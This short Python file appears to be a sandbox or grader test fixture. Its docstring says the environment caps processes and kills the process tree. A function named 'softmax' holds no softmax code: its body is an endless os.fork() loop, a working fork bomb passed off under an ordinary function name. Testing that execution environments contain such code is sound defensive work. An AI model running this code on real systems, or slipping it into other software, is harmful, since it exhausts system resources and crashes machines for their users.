"""Forks as fast as it can. The number of processes is limited, and the tree is killed as one."""

import os
import time


def softmax(x, out):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
